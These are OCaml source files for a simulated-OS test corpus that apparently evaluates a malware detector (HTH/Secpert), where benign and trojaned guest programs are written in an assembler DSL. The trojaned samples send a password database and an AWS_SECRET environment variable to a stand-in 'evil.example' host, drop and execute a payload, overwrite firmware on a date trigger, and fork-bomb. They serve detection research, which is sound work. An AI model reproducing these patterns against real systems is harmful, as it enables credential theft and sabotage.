    ~descr:"runs g++ found via hard-coded path (paper: Low warnings)"
    ~expected:low
    (setup ~programs:make_progs
       ~files:[ "makefile", "all: harrier.o\n" ]
       ~main:"/usr/bin/make" ())

(* ---------------- g++ ---------------- *)
let gxx_exe =
  let u = create ~path:"/usr/bin/g++" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "cc1" "/usr/libexec/cc1plus";
  asciz u "col2" "/usr/libexec/collect2";
  space u "argp" 4;
  space u "fd" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  (* read the source file the user named *)
  Runtime.sys_open u ~path:(mlbl "argp") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 64);
  Runtime.sys_close u ~fd:(mlbl "fd");
  (* run the hard-coded compiler stages *)
  Runtime.sys_fork u;
  testl u eax eax;
  jnz u "stage2";
  Runtime.sys_execve u ~path:(lbl "cc1") ();
  Runtime.sys_exit u 127;
  label u "stage2";
  Runtime.sys_fork u;
  testl u eax eax;
  jnz u "finish";
  Runtime.sys_execve u ~path:(lbl "col2") ();
  Runtime.sys_exit u 127;
  label u "finish";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let gxx =
  Scenario.make ~name:"g++" ~group
    ~descr:"compiler driver execs cc1plus and collect2 (paper: Low \
            warnings)"
    ~expected:low
    (setup
       ~programs:
         [ gxx_exe; Common.trivial "/usr/libexec/cc1plus";
           Common.trivial "/usr/libexec/collect2" ]
       ~files:[ "test.cpp", "int main(){}\n" ]
       ~argv:[ "/usr/bin/g++"; "test.cpp" ]
       ~main:"/usr/bin/g++" ())

(* ---------------- simple user-file filters ---------------- *)
let filter_exe path =
  let u = create ~path ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "argp" 4;
  space u "fd" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  cat_body u ~name_lbl:"argp";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let awk =
  Scenario.make ~name:"awk" ~group
    ~descr:"filters a user-named file to stdout" ~expected:benign
    (setup ~programs:[ filter_exe "/usr/bin/awk" ]
       ~files:[ "syscall_names.C", "#ifdef SYS_open\n#endif\n" ]
       ~argv:[ "/usr/bin/awk"; "syscall_names.C" ]
       ~main:"/usr/bin/awk" ())

let tail =
  Scenario.make ~name:"tail" ~group
    ~descr:"prints the end of a user-named file" ~expected:benign
    (setup ~programs:[ filter_exe "/usr/bin/tail" ]
       ~files:[ "PinInstrumenter.C", "class PinInstrumenter {};\n" ]
       ~argv:[ "/usr/bin/tail"; "PinInstrumenter.C" ]
       ~main:"/usr/bin/tail" ())

let wc =
  Scenario.make ~name:"wc" ~group
    ~descr:"counts a user-named file, prints to stdout" ~expected:benign
    (setup ~programs:[ filter_exe "/usr/bin/wc" ]
       ~files:[ "words.txt", "one two three\n" ]
       ~argv:[ "/usr/bin/wc"; "words.txt" ]
       ~main:"/usr/bin/wc" ())

(* ---------------- diff a b ---------------- *)
let diff_exe =
  let u = create ~path:"/usr/bin/diff" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "a1" 4;
  space u "a2" 4;
  space u "fd" 4;
  label u "_start";
  Runtime.save_argv u 1 "a1";
  Runtime.save_argv u 2 "a2";
  cat_body u ~name_lbl:"a1";
  cat_body u ~name_lbl:"a2";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let diff =
  Scenario.make ~name:"diff" ~group
    ~descr:"compares two user-named files, output to stdout"
    ~expected:benign
    (setup ~programs:[ diff_exe ]
       ~files:[ "old.txt", "aaa\n"; "new.txt", "bbb\n" ]
       ~argv:[ "/usr/bin/diff"; "old.txt"; "new.txt" ]
       ~main:"/usr/bin/diff" ())

(* ---------------- pico ---------------- *)
(* Reads user keystrokes and saves them to the user-named file; the 2006
   prototype mis-tagged this (Section 8.2.6) — complete tracking
   classifies it correctly. *)
let pico_exe =
  let u = create ~path:"/usr/bin/pico" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "argp" 4;
  space u "fd" 4;
  space u "n" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 128);
  movl u (mlbl "n") eax;
  Runtime.sys_open u ~path:(mlbl "argp")
    ~flags:Osim.Abi.(o_creat lor o_wronly lor o_trunc);
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let pico =
  Scenario.make ~name:"pico" ~group
    ~descr:"editor saves typed text to a user-named file" ~expected:benign
    (setup ~programs:[ pico_exe ]
       ~user_input:[ "hello world\n" ]
       ~argv:[ "/usr/bin/pico"; "a.txt" ]
       ~main:"/usr/bin/pico" ())

(* ---------------- bc ---------------- *)
let bc_exe =
  let u = create ~path:"/usr/bin/bc" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  label u "_start";
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 32);
  (* echo the expression, then "compute" by writing it back *)
  Runtime.sys_write u ~fd:(imm 1) ~buf:(lbl "__buf") ~len:eax;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let bc =
  Scenario.make ~name:"bc" ~group
    ~descr:"command-line calculator: stdin to stdout" ~expected:benign
    (setup ~programs:[ bc_exe ] ~user_input:[ "1+2\n" ]
       ~main:"/usr/bin/bc" ())

(* ---------------- xeyes ---------------- *)
(* Writes data that originates in X11 shared objects to the local X
   server socket — the paper's Low-severity false positives. *)
let libx11 =
  let u = create ~path:"/usr/lib/libX11.so"
      ~kind:Binary.Image.Shared_object ~base:Common.so_base ()
  in
  bytes_ u "xdata" "X11-DISPLAY-SETUP-REQUEST-BYTES!";
  label u "XOpenDisplay";
  export u "XOpenDisplay";
  movl u eax (lbl "xdata");
  ret u;
  finalize u

let xeyes_exe =
  let u = create ~needed:[ "/usr/lib/libX11.so" ] ~path:"/usr/bin/xeyes"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  Runtime.static_sockaddr u "xsrv" ~ip:Hth.Session.localhost_ip ~port:6000;
  space u "fd" 4;
  label u "_start";
  call u "XOpenDisplay";
  movl u esi eax;
  (* copy 16 bytes of library data into the request buffer *)
  movl u eax (ind ESI);
  movl u (mlbl "__buf") eax;
  movl u eax (ind_off ESI 4);
  movl u (mlbl ~off:4 "__buf") eax;
  movl u eax (ind_off ESI 8);
  movl u (mlbl ~off:8 "__buf") eax;
  movl u eax (ind_off ESI 12);
  movl u (mlbl ~off:12 "__buf") eax;
  Runtime.sys_socket u;
  movl u (mlbl "fd") eax;
  Runtime.sys_connect u ~fd:(mlbl "fd") ~addr:(lbl "xsrv");
  Runtime.sys_send u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 16);
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let xeyes =
  Scenario.make ~name:"xeyes" ~group
    ~descr:"X client sends libX11 data to the local X socket (paper: \
            Low false positives)"
    ~expected:low
    (setup ~programs:[ xeyes_exe; libx11 ]
       ~servers:
         [ "LocalHost", 6000,
           { Osim.Net.actor_host = "LocalHost"; script = [] } ]
       ~main:"/usr/bin/xeyes" ())

let scenarios =
  [ ls; column; make_built; make_clean; make_unbuilt; gxx; awk; pico; tail;
    diff; wc; bc; xeyes ]
