open Asm

let group = "macro"

let benign = Scenario.Benign
let medium = Scenario.Malicious Secpert.Severity.Medium
let high = Scenario.Malicious Secpert.Severity.High

let setup = Hth.Session.setup

let db_path = "/home/user/.pwsafe.dat"
let db_content = "site:bank.example user:alice pass:hunter2\n"

(* ---------------- pwsafe ---------------- *)
(* Opens its (hard-coded) database and prints entries to stdout. *)
let pwsafe_body u ~exfiltrate =
  Runtime.prologue u;
  asciz u "dbname" db_path;
  space u "fd" 4;
  space u "n" 4;
  if exfiltrate then
    Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:40400;
  label u "_start";
  Runtime.sys_open u ~path:(lbl "dbname") ~flags:Osim.Abi.o_rdonly;
  movl u (mlbl "fd") eax;
  Runtime.sys_read u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(imm 128);
  movl u (mlbl "n") eax;
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_write u ~fd:(imm 1) ~buf:(lbl "__buf") ~len:(mlbl "n");
  if exfiltrate then begin
    Runtime.sys_socket u;
    movl u esi eax;
    Runtime.sys_connect u ~fd:esi ~addr:(lbl "c2");
    Runtime.sys_send u ~fd:esi ~buf:(lbl "__buf") ~len:(mlbl "n")
  end;
  Runtime.sys_exit u 0;
  hlt u

let pwsafe_exe =
  let u = create ~path:"/usr/bin/pwsafe" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  pwsafe_body u ~exfiltrate:false;
  finalize u

let pwunsafe_exe =
  let u = create ~path:"/usr/bin/pwsafe" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  pwsafe_body u ~exfiltrate:true;
  finalize u

let pwsafe =
  Scenario.make ~name:"pwsafe (clean)" ~group
    ~descr:"password manager prints the database to stdout"
    ~expected:benign
    (setup ~programs:[ pwsafe_exe ] ~files:[ db_path, db_content ]
       ~argv:[ "/usr/bin/pwsafe"; "--exportdb" ]
       ~main:"/usr/bin/pwsafe" ())

let pwunsafe =
  Scenario.make ~name:"pwsafe (trojaned)" ~group
    ~descr:"also sends the database to a hard-coded remote host"
    ~expected:high
    (setup ~programs:[ pwunsafe_exe ] ~files:[ db_path, db_content ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 40400,
           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
       ~argv:[ "/usr/bin/pwsafe"; "--exportdb" ]
       ~main:"/usr/bin/pwsafe" ())

(* ---------------- mw ---------------- *)
(* The dictionary-lookup script: forks helper processes.  The paper
   monitors /usr/bin/perl running the script; resource abuse is the
   interesting axis (dataflow was disabled there). *)
let mw_exe ~children =
  let u = create ~path:"/usr/bin/perl" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  label u "_start";
  movl u edi (imm children);
  label u "spawn";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  decl u edi;
  jnz u "spawn";
  Runtime.sys_exit u 0;
  label u "child";
  Runtime.sys_sleep u 50;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let mw =
  Scenario.make ~name:"mw2.2.1 (clean)" ~group
    ~descr:"dictionary lookup forks two helpers" ~expected:benign
    (setup ~programs:[ mw_exe ~children:2 ] ~max_ticks:100_000
       ~argv:[ "/usr/bin/perl"; "mw2.2.1"; "tatterdemalion" ]
       ~main:"/usr/bin/perl" ())

let mw_trojaned =
  Scenario.make ~name:"mw2.2.1 (trojaned)" ~group
    ~descr:"modified script forks more than 20 children" ~expected:medium
    (setup ~programs:[ mw_exe ~children:24 ] ~max_ticks:200_000
       ~argv:[ "/usr/bin/perl"; "mw2.2.1"; "tatterdemalion" ]
       ~main:"/usr/bin/perl" ())

(* ---------------- Tic Tac Toe ---------------- *)
let ttt_body u ~dropper =
  Runtime.prologue u;
  space u "fd" 4;
  if dropper then begin
    asciz u "dropname" "./malicious_code.txt";
    asciz u "dropdata" "echo you have been owned"
  end;
  label u "_start";
  Runtime.print u "board" " X | O |  \n---+---+---\n   | X |  \n";
  Runtime.sys_read u ~fd:(imm 0) ~buf:(lbl "__buf") ~len:(imm 8);
  Runtime.print u "board2" " X | O |  \n---+---+---\n O | X |  \n";
  if dropper then begin
    Runtime.sys_creat u ~path:(lbl "dropname");
    movl u (mlbl "fd") eax;
    Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "dropdata") ~len:(imm 24);
    Runtime.sys_close u ~fd:(mlbl "fd");
    (* run the dropped file; it is not a valid image, so the exec fails
       with ENOEXEC (paper footnote 9) — the warning still fires *)
    Runtime.sys_execve u ~path:(lbl "dropname") ()
  end;
  Runtime.sys_exit u 0;
  hlt u

let ttt_exe ~dropper =
  let u = create ~path:"/usr/games/ttt" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  ttt_body u ~dropper;
  finalize u

let ttt =
  Scenario.make ~name:"Tic Tac Toe (clean)" ~group
    ~descr:"console game: stdin moves, stdout board" ~expected:benign
    (setup ~programs:[ ttt_exe ~dropper:false ] ~user_input:[ "5\n" ]
       ~main:"/usr/games/ttt" ())

let ttt_trojaned =
  Scenario.make ~name:"Tic Tac Toe (trojaned)" ~group
    ~descr:"drops a hard-coded payload into a file and executes it"
    ~expected:high
    (setup ~programs:[ ttt_exe ~dropper:true ] ~user_input:[ "5\n" ]
       ~main:"/usr/games/ttt" ())

let scenarios = [ pwsafe; pwunsafe; mw; mw_trojaned; ttt; ttt_trojaned ]
