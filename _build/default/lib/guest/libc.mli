(** The guest C library, [/lib/libc.so] — a real shared object in the
    simulated world.

    Exports:
    - [gethostbyname] (hostname string pointer on the stack): resolves
      against [/etc/hosts.db] (records of 16 NUL-padded name bytes plus a
      4-byte little-endian IP) and returns a pointer to a static 4-byte
      address buffer, or 0.  Because the resolution {e translates} the
      name through file data, Harrier must short-circuit it (Section
      7.2) — this library is the test bed for that mechanism.
    - [system] (command string pointer): forks; the child execs
      ["/bin/sh" "-c" cmd] with the "/bin/sh" string hard-coded {e in
      libc}, reproducing the ElmExploit trust-filter miss (Section
      8.3.1).
    - [sleep] (tick count): nanosleep wrapper.

    The library is in Secpert's default trust database, as in the
    paper. *)

val path : string

val base : int

(** The assembled, installable image. *)
val image : unit -> Binary.Image.t
