open Asm

let group = "extensions"

let medium = Scenario.Malicious Secpert.Severity.Medium
let high = Scenario.Malicious Secpert.Severity.High

(* ---------------- memory hog ---------------- *)
let memhog_exe =
  let u = create ~path:"/bin/memhog" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  label u "_start";
  (* query the current break, then grow it 0x1000 at a time *)
  movl u eax (imm Osim.Abi.sys_brk);
  movl u ebx (imm 0);
  int80 u;
  movl u esi eax;
  movl u edi (imm 20);
  label u "grow";
  addl u esi (imm 0x1000);
  movl u eax (imm Osim.Abi.sys_brk);
  movl u ebx esi;
  int80 u;
  decl u edi;
  jnz u "grow";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let memhog =
  Scenario.make ~name:"memory hog" ~group
    ~descr:"grows the heap by 128 KiB via brk (Vundo-style degradation)"
    ~expected:medium
    (Hth.Session.setup ~programs:[ memhog_exe ] ~main:"/bin/memhog" ())

(* ---------------- network dropper with user-named everything -------- *)
(* The user supplies both the host and the file name (wget-style), so
   the name-origin matrix is completely silent; only the *content*
   arriving from the network tells a tool download from a drive-by
   executable drop. *)
let stealth_dropper_exe =
  let u = create ~needed:[ Libc.path ] ~path:"/bin/getfile"
      ~kind:Binary.Image.Executable ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  space u "argp" 4;
  space u "argh" 4;
  space u "fd" 4;
  space u "n" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  Runtime.save_argv u 2 "argh";
  (* resolve the user-given host *)
  pushl u (mlbl "argh");
  call u "gethostbyname";
  addl u esp (imm 4);
  testl u eax eax;
  jz u "fail";
  Runtime.build_sockaddr u ~ip_src:eax ~port:(imm 80);
  movl u edi eax;
  Runtime.sys_socket u;
  movl u esi eax;
  Runtime.sys_connect u ~fd:esi ~addr:edi;
  Runtime.sys_recv u ~fd:esi ~buf:(lbl "__buf") ~len:(imm 64);
  movl u (mlbl "n") eax;
  Runtime.sys_open u ~path:(mlbl "argp")
    ~flags:Osim.Abi.(o_creat lor o_wronly lor o_trunc);
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "__buf") ~len:(mlbl "n");
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  label u "fail";
  Runtime.sys_exit u 2;
  hlt u;
  finalize u

let stealth_dropper =
  Scenario.make ~name:"stealth dropper" ~group
    ~descr:"downloads MZ executable content into a user-named file — \
            caught only by content analysis"
    ~expected:high
    (Hth.Session.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host;
             script = [ Osim.Net.Send "MZ\144\000payload-bytes";
                        Osim.Net.Close ] } ]
       ~argv:[ "/bin/getfile"; "/home/user/tool.exe"; fst Common.evil_host ]
       ~main:"/bin/getfile" ())

(* the same download of plain text stays benign *)
let text_download =
  Scenario.make ~name:"text download" ~group
    ~descr:"downloads plain text into a user-named file: benign"
    ~expected:Scenario.Benign
    (Hth.Session.setup ~programs:[ stealth_dropper_exe; Libc.image () ]
       ~hosts:Common.all_hosts
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host;
             script = [ Osim.Net.Send "just some readme text";
                        Osim.Net.Close ] } ]
       ~argv:[ "/bin/getfile"; "/home/user/readme.txt";
               fst Common.evil_host ]
       ~main:"/bin/getfile" ())

(* ---------------- environment-variable exfiltration ----------------- *)
(* Environment strings live on the initial stack (USER_INPUT, Section
   7.3.3); leaking one to a hard-coded collector is the PWSteal pattern
   via a different channel. *)
let envleak_exe =
  let u = create ~path:"/bin/envleak" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  Runtime.static_sockaddr u "c2" ~ip:(snd Common.evil_host) ~port:80;
  space u "envp" 4;
  label u "_start";
  Runtime.save_env u 0 "envp";
  movl u esi (mlbl "envp");
  Runtime.strlen u ~id:"env" ~src:ESI ~dst:EDX;
  movl u (mlbl ~off:60 "__scratch") edx;
  Runtime.sys_socket u;
  movl u edi eax;
  Runtime.sys_connect u ~fd:edi ~addr:(lbl "c2");
  Runtime.sys_send u ~fd:edi ~buf:(mlbl "envp")
    ~len:(mlbl ~off:60 "__scratch");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let envleak =
  Scenario.make ~name:"env exfiltration" ~group
    ~descr:"sends an environment variable to a hard-coded collector"
    ~expected:(Scenario.Malicious Secpert.Severity.Low)
    (Hth.Session.setup ~programs:[ envleak_exe ] ~hosts:Common.all_hosts
       ~env:[ "AWS_SECRET=hunter2"; "PATH=/usr/bin" ]
       ~servers:
         [ fst Common.evil_host, 80,
           { Osim.Net.actor_host = fst Common.evil_host; script = [] } ]
       ~main:"/bin/envleak" ())

(* ---------------- CIH-style date trigger ---------------------------- *)
(* The CIH/Chernobyl virus triggers only on specific dates (CERT
   IN-99-03, quoted in Sections 4.1 and 7.4).  Modelled as a payload
   gated on the system clock: the trigger block runs once, late — the
   basic-block frequency machinery marks the warning "rarely
   executed". *)
let cih_exe =
  let u = create ~path:"/bin/cih" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  asciz u "bios" "/dev/bios";
  asciz u "garbage" "\xde\xad\xbe\xef-overwrite-the-firmware";
  space u "fd" 4;
  label u "_start";
  (* benign-looking busy loop: check the date, do nothing, repeat *)
  label u "wait";
  movl u eax (imm Osim.Abi.sys_time);
  int80 u;
  cmpl u eax (imm 2600);  (* the 26th... *)
  jl u "wait";
  (* trigger date reached: overwrite the firmware *)
  Runtime.sys_creat u ~path:(lbl "bios");
  movl u (mlbl "fd") eax;
  Runtime.sys_write u ~fd:(mlbl "fd") ~buf:(lbl "garbage") ~len:(imm 28);
  Runtime.sys_close u ~fd:(mlbl "fd");
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let cih =
  Scenario.make ~name:"CIH date trigger" ~group
    ~descr:"payload gated on the clock; fires once, late — the warning             carries the rarely-executed note"
    ~expected:(Scenario.Malicious Secpert.Severity.High)
    (Hth.Session.setup ~programs:[ cih_exe ] ~max_ticks:100_000
       ~main:"/bin/cih" ())

let scenarios =
  [ memhog; stealth_dropper; text_download; envleak; cih ]
