open Asm

let group = "table5"

(* One parent forks [n] children; each child loops, sleeping. *)
let loop_forker_exe =
  let u = create ~path:"/bin/loop_forker" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  label u "_start";
  movl u edi (imm 12);  (* children to spawn *)
  label u "spawn";
  Runtime.sys_fork u;
  testl u eax eax;
  jz u "child";
  decl u edi;
  jnz u "spawn";
  Runtime.sys_exit u 0;
  (* child: a bounded busy/sleep loop standing in for "infinite loop" *)
  label u "child";
  movl u esi (imm 5);
  label u "child_loop";
  Runtime.sys_sleep u 200;
  decl u esi;
  jnz u "child_loop";
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let loop_forker =
  Scenario.make ~name:"loop forker" ~group
    ~descr:"main thread forks 12 children that loop and sleep"
    ~expected:(Scenario.Malicious Secpert.Severity.Medium)
    (Hth.Session.setup ~programs:[ loop_forker_exe ] ~max_ticks:100_000
       ~main:"/bin/loop_forker" ())

(* Every process forks in a loop: 2^4 process tree. *)
let tree_forker_exe =
  let u = create ~path:"/bin/tree_forker" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  label u "_start";
  movl u edi (imm 4);  (* tree depth *)
  label u "level";
  Runtime.sys_fork u;
  (* parent and child both continue the loop *)
  decl u edi;
  jnz u "level";
  Runtime.sys_sleep u 100;
  Runtime.sys_exit u 0;
  hlt u;
  finalize u

let tree_forker =
  Scenario.make ~name:"tree forker" ~group
    ~descr:"parent and child both keep forking (2^4 processes)"
    ~expected:(Scenario.Malicious Secpert.Severity.Medium)
    (Hth.Session.setup ~programs:[ tree_forker_exe ] ~max_ticks:100_000
       ~main:"/bin/tree_forker" ())

let scenarios = [ loop_forker; tree_forker ]
