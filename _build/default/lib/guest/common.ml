let exe_base = 0x1000

let so_base = 0x60000

let trivial ?output path =
  let u = Asm.create ~path ~kind:Binary.Image.Executable ~base:exe_base () in
  Asm.label u "_start";
  (match output with
   | Some s -> Runtime.print u "__msg" s
   | None -> ());
  Runtime.sys_exit u 0;
  Asm.hlt u;
  Asm.finalize u

let evil_host = "evil.example", 0x0A00000A
let data_host = "data.example", 0x0A00000B
let sink_host = "sink.example", 0x0A00000C

let all_hosts = [ evil_host; data_host; sink_host ]
