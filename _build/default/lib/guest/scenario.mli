(** Experiment scenarios: a session setup plus the expected verdict.

    Each table of the paper's evaluation (Section 8) is a list of
    scenarios; the bench harness runs them and compares HTH's verdict
    with the expectation. *)

type expected =
  | Benign  (** no warning should fire *)
  | Malicious of Secpert.Severity.t  (** expected {e maximum} severity *)

type t = {
  sc_name : string;  (** e.g. ["Hardcode"] (Table 4 row) *)
  sc_group : string;  (** e.g. ["table4"] *)
  sc_descr : string;
  sc_setup : Hth.Session.setup;
  sc_expected : expected;
}

val make :
  name:string -> group:string -> descr:string -> expected:expected ->
  Hth.Session.setup -> t

val expected_label : expected -> string

(** [matches expected verdict] — exact severity agreement (the tables
    grade classification, not mere detection). *)
val matches : expected -> Hth.Report.verdict -> bool

(** [run sc] executes the scenario under the default configuration. *)
val run : ?monitor_config:Harrier.Monitor.config -> t -> Hth.Session.result

(** [passes sc] runs and checks the verdict. *)
val passes : t -> bool
