lib/guest/libc.ml: Asm Binary Lazy Osim
