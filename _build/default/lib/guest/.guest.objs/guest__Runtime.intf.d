lib/guest/runtime.mli: Asm Isa
