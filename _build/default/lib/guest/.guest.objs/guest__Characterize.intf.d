lib/guest/characterize.mli: Scenario
