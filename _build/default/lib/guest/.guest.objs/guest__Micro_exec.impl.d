lib/guest/micro_exec.ml: Asm Binary Common Hth Osim Runtime Scenario Secpert
