lib/guest/scenario.mli: Harrier Hth Secpert
