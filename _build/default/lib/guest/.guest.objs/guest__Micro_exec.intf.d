lib/guest/micro_exec.mli: Scenario
