lib/guest/micro_fork.ml: Asm Binary Common Hth Runtime Scenario Secpert
