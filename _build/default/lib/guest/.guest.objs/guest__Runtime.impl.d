lib/guest/runtime.ml: Asm Bytes Int32 List Osim String
