lib/guest/corpus.mli: Scenario
