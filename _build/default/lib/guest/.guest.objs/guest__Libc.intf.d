lib/guest/libc.mli: Binary
