lib/guest/perf_workload.mli: Scenario
