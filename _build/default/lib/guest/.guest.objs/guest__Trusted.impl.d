lib/guest/trusted.ml: Asm Binary Char Common Hth Osim Runtime Scenario Secpert
