lib/guest/extensions.mli: Scenario
