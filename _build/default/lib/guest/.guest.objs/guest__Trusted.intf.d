lib/guest/trusted.mli: Scenario
