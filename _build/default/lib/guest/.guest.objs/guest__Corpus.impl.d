lib/guest/corpus.ml: Characterize Exploits Extensions List Macro Micro_exec Micro_flow Micro_fork Scenario String Trusted
