lib/guest/macro.ml: Asm Binary Common Hth Osim Runtime Scenario Secpert
