lib/guest/perf_workload.ml: Asm Binary Common Fmt Hth Osim Runtime Scenario Secpert String
