lib/guest/common.ml: Asm Binary Runtime
