lib/guest/micro_flow.mli: Scenario
