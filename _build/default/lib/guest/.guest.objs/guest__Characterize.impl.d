lib/guest/characterize.ml: Asm Binary Common Hth Libc Osim Runtime Scenario Secpert
