lib/guest/macro.mli: Scenario
