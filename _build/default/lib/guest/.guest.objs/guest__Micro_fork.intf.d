lib/guest/micro_fork.mli: Scenario
