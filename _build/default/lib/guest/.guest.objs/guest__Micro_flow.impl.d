lib/guest/micro_flow.ml: Asm Binary Common Fmt Hth Libc List Osim Runtime Scenario Secpert String
