lib/guest/extensions.ml: Asm Binary Common Hth Libc Osim Runtime Scenario Secpert
