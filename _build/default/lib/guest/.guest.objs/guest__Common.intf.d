lib/guest/common.mli: Binary
