lib/guest/scenario.ml: Fmt Hth Secpert
