(** Guest-side conveniences: syscall emission helpers over the assembler
    DSL.

    Every helper clobbers [eax]/[ebx]/[ecx]/[edx] as a real syscall stub
    would; results land in [eax].  Programs that use the socket helpers
    or [parse_int] must call {!prologue} once to reserve the scratch
    areas. *)

(** [prologue u] reserves [__scratch] (64 bytes, socketcall argument
    arrays and built sockaddrs) and [__buf] (256 bytes, I/O). *)
val prologue : Asm.t -> unit

(** {2 Processes} *)

val sys_exit : Asm.t -> int -> unit

(** [sys_fork u] — result in [eax] (0 in the child). *)
val sys_fork : Asm.t -> unit

(** [sys_execve u ~path ?argv ()] — [argv] points at a NULL-terminated
    pointer array, or 0. *)
val sys_execve : Asm.t -> path:Asm.arg -> ?argv:Asm.arg -> unit -> unit

val sys_sleep : Asm.t -> int -> unit

val sys_getpid : Asm.t -> unit

(** {2 Files} *)

(** [sys_open u ~path ~flags] — fd (or negative errno) in [eax]. *)
val sys_open : Asm.t -> path:Asm.arg -> flags:int -> unit

val sys_creat : Asm.t -> path:Asm.arg -> unit

val sys_close : Asm.t -> fd:Asm.arg -> unit

val sys_read : Asm.t -> fd:Asm.arg -> buf:Asm.arg -> len:Asm.arg -> unit

val sys_write : Asm.t -> fd:Asm.arg -> buf:Asm.arg -> len:Asm.arg -> unit

(** {2 Sockets} *)

(** [sys_socket u] — socket fd in [eax]. *)
val sys_socket : Asm.t -> unit

val sys_connect : Asm.t -> fd:Asm.arg -> addr:Asm.arg -> unit

val sys_bind : Asm.t -> fd:Asm.arg -> addr:Asm.arg -> unit

val sys_listen : Asm.t -> fd:Asm.arg -> unit

(** [sys_accept u ~fd] — connection fd in [eax]. *)
val sys_accept : Asm.t -> fd:Asm.arg -> unit

val sys_send : Asm.t -> fd:Asm.arg -> buf:Asm.arg -> len:Asm.arg -> unit

val sys_recv : Asm.t -> fd:Asm.arg -> buf:Asm.arg -> len:Asm.arg -> unit

(** [static_sockaddr u name ~ip ~port] places an 8-byte sockaddr blob in
    [.rodata] — a {e hard-coded} address. *)
val static_sockaddr : Asm.t -> string -> ip:int -> port:int -> unit

(** [build_sockaddr ?at u ~ip_src ~port] assembles a sockaddr at
    [__scratch+at] (default 32) from a 4-byte IP located at the address
    in [ip_src] (e.g. gethostbyname's result) and a port; leaves its
    address in [eax].  Clobbers [ebx]. *)
val build_sockaddr : ?at:int -> Asm.t -> ip_src:Asm.arg -> port:Asm.arg -> unit

(** {2 argv and numbers} *)

(** [save_argv u n dst_label] stores the pointer to argv[n] (from the
    initial stack) into the word at [dst_label].  Must run at [_start]
    before the stack pointer moves. *)
val save_argv : Asm.t -> int -> string -> unit

(** [save_env u n dst_label] stores the pointer to env[n] into the word
    at [dst_label]; like {!save_argv}, it must run at [_start].  Env
    strings are USER_INPUT, as the paper prescribes for the initial
    stack. *)
val save_env : Asm.t -> int -> string -> unit

(** [parse_int u ~src ~dst] parses a decimal NUL-terminated string whose
    address is in register [src] into register [dst].  Clobbers [ebx],
    [ecx]. The labels it emits are namespaced by [id]. *)
val parse_int : Asm.t -> id:string -> src:Isa.Reg.t -> dst:Isa.Reg.t -> unit

(** [strlen u ~id ~src ~dst] computes the length of the NUL-terminated
    string whose address is in [src] into [dst]. *)
val strlen : Asm.t -> id:string -> src:Isa.Reg.t -> dst:Isa.Reg.t -> unit

(** [print u name s] emits a write of the literal [s] (placed in rodata
    under [name]) to stdout. *)
val print : Asm.t -> string -> string -> unit
