(** Table 1 — the nine real-world malicious-code examples of Section
    2.1, simulated so their execution patterns can be {e derived} from
    monitored runs rather than transcribed:

    PWSteal.Tarno.Q, Trojan.Lodeight.A, W32.Mytob.J\@mm, Trojan.Vundo,
    Windows-update.com, W32/MyDoom.B, Phatbot, the Sendmail distribution
    Trojan and the TCP Wrappers Trojan. *)

val scenarios : Scenario.t list
